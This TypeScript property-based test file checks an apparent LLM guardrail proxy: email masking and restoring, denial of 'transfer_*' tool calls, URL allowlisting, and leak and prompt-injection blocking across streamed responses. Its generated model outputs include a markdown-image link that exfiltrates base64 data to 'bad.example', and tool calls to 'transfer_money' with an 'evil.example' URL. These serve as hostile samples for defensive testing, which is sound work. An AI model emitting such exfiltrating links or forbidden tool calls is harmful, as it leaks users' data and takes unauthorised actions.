import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Product } from '../../config/assemble.ts';
import { askingProduct, carried, cutAt, type Hooks, slowHooks } from '../support/asking.ts';
import { forbidden } from '../support/webhook.ts';
import { type Told, tongues } from './calling.ts';
import { shareOf } from './drivers.ts';
import { type Said, speeches } from './speech.ts';

/** Every kind of policy at once: restore, mask, hold tool calls, want a format, ask a webhook, look for leaks. */
const policies = [
  { name: 'mask', on: 'both', detect: ['email'], action: 'redact', restore: true },
  { name: 'calls', on: 'output', action: 'block', tools: { deny: ['transfer_*'], urls: { allow: ['good.example'] } } },
  { name: 'house', on: 'both', detect: ['one'], action: 'block', deadlineMs: 60_000, onError: 'closed' },
  { name: 'noted', on: 'both', detect: ['two'], action: 'flag', deadlineMs: 60_000 },
  { name: 'leaks', on: 'output', detect: ['leak'], action: 'redact', threshold: 0.9 },
  { name: 'own', on: 'output', detect: ['prompt-injection'], action: 'block', release: 'judged', threshold: 0.6 },
];
const strip = { name: 'shape', on: 'output', format: { type: 'json', fences: 'strip' }, action: 'flag' };
const refuse = {
  name: 'shape',
  on: 'output',
  format: { type: 'json', fences: 'allow', schema: { type: 'object' } },
  action: 'block',
};

/** What the caller says: the provider gets its address as `<EMAIL_1>`. */
const prompt = 'Act for bob@example.com.';

const words = fc.array(
  fc.constantFrom(
    ...['the ', 'sun ', 'was low ', 'and – ', 'tea ', 'é😀 ', 'with milk and sugar in the garden of the old house '],
    ...[
      '<EMAIL_1> ',
      '[email 1] ',
      'EMAIL_1, ',
      'ann@example.com ',
      '![x](https://bad.example/?d=c2VjcmV0IHdvcmRzIG9mIHRoZSBob3VzZSBhbmQgaXRzIGdhcmRlbiBhbmQgbW9yZQ) ',
    ],
  ),
  { minLength: 1, maxLength: 60 },
);
/** Without an address that a tool must not be called with. */
const plain = (list: readonly string[]): string[] => list.filter((word) => !word.includes('bad.example'));
const rarely = (what: string) => fc.option(fc.constant(what), { freq: 4, nil: '' });
/** What the answer says in a string: now and then what the webhook finds. */
const speech = fc.tuple(words, rarely(`${forbidden} `), words).map(([a, bad, b]) => [...a, bad, ...b].join(''));

const inJson = (text: string): string => JSON.stringify({ say: text });
const shapes: ReadonlyArray<(text: string) => string> = [
  inJson,
  inJson,
  (text) => `\`\`\`json\n${inJson(text)}\n\`\`\``,
  (text) => text,
];
const answer = fc.tuple(speech, fc.constantFrom(...shapes)).map(([text, shape]) => shape(text));

/** A text in pieces of a few characters, none of which ends within a character. */
function piecesOf(text: string): string[] {
  const pieces: string[] = [];
  const characters = [...text];
  for (let at = 0; at < characters.length; ) {
    const length = 1 + ((at * 7 + 3) % 29);
    pieces.push(characters.slice(at, at + length).join(''));
    at += length;
  }
  return pieces;
}

/** A choice says one text: pieces of two that take turns would make words that neither has, or none of what both have. */
function oneTextEach(told: readonly Told[]): Told[] {
  return told.filter(
    ({ kind, choice }, i) =>
      kind === 'tool' || told.findIndex((other) => other.kind === 'text' && other.choice === choice) === i,
  );
}

const places = fc.array(fc.nat(), { maxLength: 30 });
const delays = fc.array(fc.nat(12), { minLength: 1, maxLength: 12 });

let hooks: Hooks;
beforeAll(async () => {
  hooks = await slowHooks();
});
afterAll(() => hooks.close());

describe.each([
  ['strip', strip],
  ['refuse', refuse],
] as const)('all policies, formats: %s', (_, shape) => {
  let product: Product;
  beforeAll(() => {
    product = askingProduct(hooks, [...policies, shape]);
  });
  afterAll(() => product.telemetry.shutdown(100));

  describe.each(tongues.map((tongue) => [tongue.dialect, tongue] as const))('%s', (_dialect, tongue) => {
    const told = fc.oneof(
      answer.map((text): Told => ({ choice: 0, kind: 'text', name: '', pieces: piecesOf(text) })),
      fc
        .tuple(
          fc.constantFrom('look_up', 'look_up', 'look_up', 'transfer_money'),
          speech,
          rarely('https://evil.example'),
        )
        .map(([name, note, url]): Told => {
          return { choice: 0, kind: 'tool', name, pieces: piecesOf(JSON.stringify({ note, url })) };
        }),
    );
    const all = fc
      .array(
        fc.tuple(told, fc.nat(tongue.choices ? 2 : 0)).map(([each, choice]): Told => ({ ...each, choice })),
        { minLength: 1, maxLength: 4 },
      )
      .map((list) => (tongue.choices ? oneTextEach(list) : list));
    const turns = fc.array(fc.nat(7), { minLength: 1, maxLength: 12 });

    it.each([true, false])(
      'the same bytes, verdict and findings for any cut and any delay (streamed: %s)',
      async (stream) => {
        await fc.assert(
          fc.asyncProperty(all, turns, places, delays, async (said, order, at, slow) => {
            const bytes = Buffer.from(stream ? tongue.stream(said, order) : tongue.whole(said));
            const n = Math.max(...said.map(({ choice }) => choice + 1));
            const request = tongue.request(stream, n).replace('Act.', prompt);
            hooks.slow([]);
            const plain = await carried(product, tongue, request, [bytes], stream);
            hooks.slow(slow);
            expect(await carried(product, tongue, request, cutAt(bytes, at), stream)).toEqual(plain);

            expect(plain.sent).toContain('<EMAIL_1>');
            expect(plain.sent).not.toContain('bob@');
            expect(plain.body).not.toContain('ann@example');
            expect(plain.body).not.toMatch(/[QZX]{2}|transfer|evil/);
            const strings = said.map(({ name, pieces }) => `${name} ${pieces.join('')}`).join('\n');
            if (/QZXQZX|transfer|evil/.test(strings)) expect(plain.verdict.output).toBe('block');
            expect(plain.verdict.input).toBe('redact');
          }),
          { numRuns: shareOf(tongue.dialect, 20) },
        );
      },
    );
  });

  describe.each(
    speeches.filter(({ dialect }) => dialect !== 'openai-completions').map((each) => [each.dialect, each] as const),
  )('%s', (_dialect, dialect) => {
    it('what nobody refuses is read as it was meant: put back, masked, without its fence', async () => {
      await fc.assert(
        fc.asyncProperty(
          words,
          words.map(plain),
          fc.boolean(),
          places,
          delays,
          async (text, note, fenced, at, slow) => {
            const own = inJson(text.join(''));
            const said: Said[] = [
              { kind: 'text', pieces: piecesOf(fenced ? `\`\`\`json\n${own}\n\`\`\`` : own) },
              { kind: 'tool', pieces: piecesOf(JSON.stringify({ note: note.join('') })) },
            ];
            hooks.slow(slow);
            const request = JSON.stringify(dialect.request(prompt, true));
            const { body, verdict } = await carried(
              product,
              dialect,
              request,
              cutAt(Buffer.from(dialect.stream(said)), at),
            );
            expect(verdict.output).not.toBe('block');
            const heard = dialect.hear(body, true);
            const bare = heard.text.replace(/^```json\n/, '').replace(/\n```$/, '');
            expect(bare === heard.text).toBe(!fenced || shape === strip);
            expect((JSON.parse(bare) as { say: string }).say).toBe(meant(text));
            expect((JSON.parse(heard.tool) as { note: string }).note).toBe(meant(note));
          },
        ),
        { numRuns: shareOf(dialect.dialect, 25) },
      );
    });
  });
});

/** What a caller reads of it. */
function meant(text: readonly string[]): string {
  return text
    .join('')
    .replaceAll(/<EMAIL_1>|\[email 1\]|EMAIL_1/g, 'bob@example.com')
    .replaceAll('ann@example.com', '<EMAIL_2>')
    .replaceAll(/https:\/\/bad[^)]*/g, '<URL_1>');
}
